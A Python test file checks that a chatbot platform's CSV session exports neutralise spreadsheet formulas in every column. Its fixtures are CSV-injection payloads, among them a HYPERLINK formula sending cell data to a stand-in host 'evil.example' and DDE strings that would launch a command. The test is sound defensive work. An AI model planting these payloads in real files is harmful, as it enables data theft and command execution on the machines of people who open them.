"""Session exports are safe to open: no cell of any column can start a spreadsheet formula (OWASP)."""

import csv

from shared_apps.core.csv_export import FORMULA_STARTS
from tenant_apps.chatbots.services import chatbot_update
from tenant_apps.conversations import exports, ingress, services, turns
from tenant_apps.conversations.enums import Platform
from tenant_apps.conversations.selectors import SessionFilters

NAME = '=HYPERLINK("https://evil.example/?"&A1, "Click")'
PARTICIPANT = "+1+cmd|' /C calc'!A0"
CONTENT = "-2+3"
REPLY = "@SUM(1+9)*cmd|' /C calc'!A0"
TAG = "=1+1"


def test_export_neutralises_formulas_in_every_column(chatbot, owner, fake_llm):
    chatbot_update(chatbot=chatbot, actor=owner, name=NAME)
    participant = services.participant_get_or_create(platform=Platform.API, identifier=PARTICIPANT)
    session = services.session_start(chatbot=chatbot, version=None, participant=participant, platform=Platform.API)
    fake_llm.reply(REPLY)
    reply = turns.turn_process(
        message_id=ingress.message_receive(session=session, inbound=ingress.Inbound(text=CONTENT)).message.pk
    )
    services.message_tag_add(message=reply, name=TAG, user=owner)
    export = services.export_create(filters=SessionFilters(), user=owner)

    exports.export_run(export_id=export.pk)

    export.refresh_from_db()
    with open(exports.export_path(export), newline="", encoding="utf-8") as handle:
        header, *rows = list(csv.reader(handle))
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    assert [(c["chatbot"], c["participant"], c["content"], c["tags"]) for c in cells] == [
        ("'" + NAME, "'" + PARTICIPANT, "'" + CONTENT, ""),
        ("'" + NAME, "'" + PARTICIPANT, "'" + REPLY, "'" + TAG),
    ]
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
